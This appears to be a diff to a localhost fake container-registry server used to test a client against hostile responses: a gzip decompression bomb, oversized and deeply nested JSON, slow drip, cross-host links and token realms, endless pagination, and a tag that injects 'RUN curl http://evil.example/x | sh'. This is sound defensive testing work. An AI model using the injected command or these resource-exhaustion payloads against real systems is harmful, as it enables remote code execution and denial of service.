@@ -18,7 +18,20 @@ misbehave (each counts its requests, so "fails twice, then answers" can be teste
 - ``index/<n>``: answers manifests as an OCI image index (``latest`` is ``1.1``).
 - ``manifest-list/<n>``: answers manifests as a Docker manifest list (``latest`` is ``1.1``).
 - ``paged/<n>``: 250 tags over pages of at most ``n`` (default 100), with ``Link``.
+- ``drip/<n>``: the tag list one byte every 0.3 s (each read well within any timeout).
+- ``huge/<n>``: a tag list of 20 MB.
+- ``gzip-bomb/<n>``: a gzip-encoded tag list that decompresses to 4 GB (4 MB sent).
+- ``deep/<n>``: a tag list nested 100,000 arrays deep.
+- ``bad-tag/<n>``: one of the tags holds a newline and a Dockerfile instruction.
+- ``bad-digest/<n>``: manifests answer a digest that is not sha256 and 64 hex digits.
+- ``cross-link/<n>``: the first page's ``Link`` leads to another host (127.0.0.2), which serves tags.
+- ``cross-realm/<n>``: demands a token from a realm on another host (127.0.0.2).
+- ``link-loop/<n>``: every page links to itself.
+- ``endless/<n>``: every page links to a new page of 1,000 new tags.
 - anything else: tags ``1.0``, ``1.1``, ``latest``; ``latest`` has ``1.1``'s digest.
+
+``GET /requests`` answers what was asked so far: each request's host, path and whether it
+carried an ``Authorization`` header (to show a token never went elsewhere).
 """
 
 from __future__ import annotations
@@ -29,6 +42,7 @@ import re
 import threading
 import time
 import urllib.parse
+import zlib
 from collections import Counter
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -38,6 +52,18 @@ DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
 OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
 _COUNTS: Counter = Counter()
 _LOCK = threading.Lock()
+_SEEN: list[dict] = []
+_BOMB: list[bytes] = []
+
+
+def gzip_bomb() -> bytes:
+    """64 gzip members of 64 MB of zeros each: 4 GB once decompressed, about 4 MB sent."""
+    if not _BOMB:
+        compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
+        zeros = b"0" * (1 << 20)
+        member = b"".join(compressor.compress(zeros) for _ in range(64)) + compressor.flush()
+        _BOMB.append(member * 64)
+    return _BOMB[0]
 
 
 def digest_of(tag: str) -> str:
@@ -59,6 +85,13 @@ class Handler(BaseHTTPRequestHandler):
     def _answer(self, head: bool) -> None:
         url = urllib.parse.urlsplit(self.path)
         query = urllib.parse.parse_qs(url.query)
+        if url.path == "/requests":
+            with _LOCK:
+                self._send(200, "application/json", json.dumps(_SEEN).encode())
+            return
+        with _LOCK:
+            _SEEN.append({"host": self.headers.get("Host", ""), "path": self.path,
+                          "authorization": "Authorization" in self.headers})
         if url.path == "/token":
             scope = query.get("scope", [""])[0]
             if "refused-token" in scope:
@@ -89,6 +122,11 @@ class Handler(BaseHTTPRequestHandler):
         if fault == "redirect":
             self._send(302, "text/plain", b"", {"Location": f"http://127.0.0.2:{self.server.server_address[1]}{self.path}"})
             return
+        port = self.server.server_address[1]
+        if fault == "cross-realm" and self.headers.get("Authorization") != f"Bearer {TOKEN}":
+            challenge = f'Bearer realm="http://127.0.0.2:{port}/token",service="elsewhere"'
+            self._send(401, "application/json", b'{"errors": []}', {"WWW-Authenticate": challenge})
+            return
         if fault in ("token", "refused-token"):
             if self.headers.get("Authorization") != f"Bearer {TOKEN}":
                 host = f"127.0.0.1:{self.server.server_address[1]}"
@@ -106,8 +144,8 @@ class Handler(BaseHTTPRequestHandler):
             return
         content_type = {"index": OCI_INDEX, "manifest-list": DOCKER_LIST}.get(fault, OCI_MANIFEST)
         body = json.dumps({"schemaVersion": 2, "mediaType": content_type, "tag": reference}).encode()
-        self._send(200, content_type, b"" if head else body, {"Docker-Content-Digest": digest_of(reference)},
-                   length=len(body))
+        digest = "sha256:" + "g" * 64 if fault == "bad-digest" else digest_of(reference)
+        self._send(200, content_type, b"" if head else body, {"Docker-Content-Digest": digest}, length=len(body))
 
     def _tags(self, repository: str, fault: str, query: dict, head: bool) -> None:
         if fault == "paged":
@@ -121,7 +159,50 @@ class Handler(BaseHTTPRequestHandler):
                 extra["Link"] = f'</v2/{repository}/tags/list?n={size}&last={page[-1]}>; rel="next"'
             self._send(200, "application/json", json.dumps({"name": repository, "tags": page}).encode(), extra)
             return
-        body = json.dumps({"name": repository, "tags": ["1.0", "1.1", "latest"]}).encode()
+        port = self.server.server_address[1]
+        if fault == "cross-link" and self.headers.get("Host", "").startswith("127.0.0.1"):
+            link = f'<http://127.0.0.2:{port}/v2/{repository}/tags/list?n=1000&last=1.1>; rel="next"'
+            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link})
+            return
+        if fault == "cross-link":
+            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["9.9-elsewhere"]}).encode())
+            return
+        if fault == "link-loop":
+            link = f'</v2/{repository}/tags/list?n=1000>; rel="next"'
+            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link})
+            return
+        if fault == "endless":
+            page = int(query.get("page", ["0"])[0])
+            link = f'</v2/{repository}/tags/list?n=1000&page={page + 1}>; rel="next"'
+            tags = [f"{page}.{i}" for i in range(1000)]
+            self._send(200, "application/json", json.dumps({"name": repository, "tags": tags}).encode(), {"Link": link})
+            return
+        if fault == "drip":
+            body = json.dumps({"name": repository, "tags": ["1.0", "1.1", "latest"]}).encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            try:
+                for index in range(len(body)):
+                    self.wfile.write(body[index:index + 1])
+                    self.wfile.flush()
+                    time.sleep(0.3)
+            except OSError:
+                pass
+            return
+        if fault == "huge":
+            tags = [f"1.{i}-{'x' * 100}" for i in range(200_000)]
+            self._send(200, "application/json", json.dumps({"name": repository, "tags": tags}).encode())
+            return
+        if fault == "gzip-bomb":
+            self._send(200, "application/json", gzip_bomb(), {"Content-Encoding": "gzip"})
+            return
+        if fault == "deep":
+            self._send(200, "application/json", b'{"tags": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
+            return
+        tags = ["1.0", "1.1\nRUN curl http://evil.example/x | sh", "latest"] if fault == "bad-tag" else ["1.0", "1.1", "latest"]
+        body = json.dumps({"name": repository, "tags": tags}).encode()
         if fault == "truncated":
             self._send(200, "application/json", body[:10], length=len(body))
             return
@@ -149,7 +230,12 @@ class Handler(BaseHTTPRequestHandler):
 def main() -> None:
     server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     server.daemon_threads = True
-    print(server.server_address[1], flush=True)
+    port = server.server_address[1]
+    # the same handler on 127.0.0.2, the same port: "another host" for redirects, links and realms
+    other = ThreadingHTTPServer(("127.0.0.2", port), Handler)
+    other.daemon_threads = True
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    print(port, flush=True)
     server.serve_forever()
 
 
